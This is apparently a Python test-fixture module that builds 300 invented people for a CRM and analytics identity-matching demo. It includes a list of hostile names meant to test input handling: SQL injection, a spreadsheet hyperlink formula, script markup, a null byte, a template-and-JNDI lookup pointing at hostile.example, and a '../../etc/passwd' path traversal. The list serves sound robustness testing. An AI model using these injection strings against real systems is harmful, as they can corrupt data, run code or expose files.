"""The invented people of the demo: some share a name, some a mailbox, some have names that bite.

Always the same people. Domains are reserved (RFC 2606), numbers are Ofcom's for drama.
"""

from dataclasses import dataclass

HOW_MANY = 300
ADA_NUMBER = 101
CANARY_NUMBER = 280

_FIRST = (
    "Amara",
    "Bilal",
    "Chiara",
    "Dag",
    "Elif",
    "Femi",
    "Greta",
    "Hanan",
    "Ivo",
    "Jun",
    "Kofi",
    "Leila",
    "Mateo",
    "Nia",
    "Oskar",
    "Priya",
    "Quinn",
)
_LAST = (
    "Abara",
    "Brandt",
    "Castellano",
    "Dlamini",
    "Eriksen",
    "Farouk",
    "Grabowski",
    "Hashemi",
    "Ito",
    "Jovanovic",
    "Kuznetsova",
)
_DOMAINS = ("subject.example", "post.example", "example.com", "example.org")
_NAMESAKE = "Ada Osei-Quartermaine"  # three strangers have the heroine's name
_FAMILY = "household@shared.example"

# Names and addresses that must stay names and addresses, wherever they go.
_BITING = (
    ("Siobhán O'Brien", "o'brien@hostile.example"),
    ('Robert "Bob"; DROP TABLE people;--', "bobby'; drop table people;--@hostile.example"),
    ('=HYPERLINK("https://hostile.example")', "formula+tag@hostile.example"),
    ("<script>alert('name')</script>", "markup@hostile.example"),
    ("مريم الخوارزمي", "maryam@hostile.example"),
    ("\u202egnitirw sdrawkcab", "backwards@hostile.example"),
    ("Zoë Ünïcödé-Ångström", "zoë@hostile.example"),
    ("Null Void", "percent%00@hostile.example"),
    ("Line\nBreak", "line@hostile.example"),
    ("李小龍 🐉", "dragon@hostile.example"),
    ("{{7*7}} ${jndi:ldap://hostile.example}", "template@hostile.example"),
    ("../../etc/passwd", "path\\..@hostile.example"),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Person:
    """One invented person, and the names that systems have for them."""

    number: int
    name: str
    email: str
    phone: str

    @property
    def account_id(self) -> str:
        """The account number, printed on letters."""
        return f"ACC-{self.number:06d}"

    @property
    def visitor_id(self) -> str:
        """The analytics id of their signed-in visits. The CRM knows it, the person does not."""
        return f"visitor-{self.number:06d}"

    @property
    def anonymous_id(self) -> str:
        """The analytics id of visits before they signed in. Only the analytics service knows it."""
        return f"anon-{self.number * 7919 % 1_000_003:06d}"


def everybody() -> tuple[Person, ...]:
    """Return all of them, in the order of their numbers."""
    return tuple(_person(number) for number in range(1, HOW_MANY + 1))


def ada() -> Person:
    """Return the heroine of the demo."""
    return _person(ADA_NUMBER)


def canary() -> Person:
    """Return who must always be found in the CRM: a connector that does not is dead."""
    return _person(CANARY_NUMBER)


def _person(number: int) -> Person:
    name, email = _named(number)
    return Person(number=number, name=name, email=email, phone=f"+44207946{number:04d}")


def _named(number: int) -> tuple[str, str]:
    if number == ADA_NUMBER:
        return _NAMESAKE, "ada.osei@subject.example"
    if number <= len(_BITING):
        return _BITING[number - 1]
    first, last = _FIRST[number % len(_FIRST)], _LAST[number * 3 % len(_LAST)]
    domain = _DOMAINS[number % len(_DOMAINS)]
    email = f"{first}.{last}.{number}@{domain}"  # some systems keep capitals
    if number in {120, 220, 290}:
        return _NAMESAKE, email.lower()
    if number in {150, 151, 152}:
        return f"{first} Household", _FAMILY
    return f"{first} {last}", email if number % 2 else email.lower()
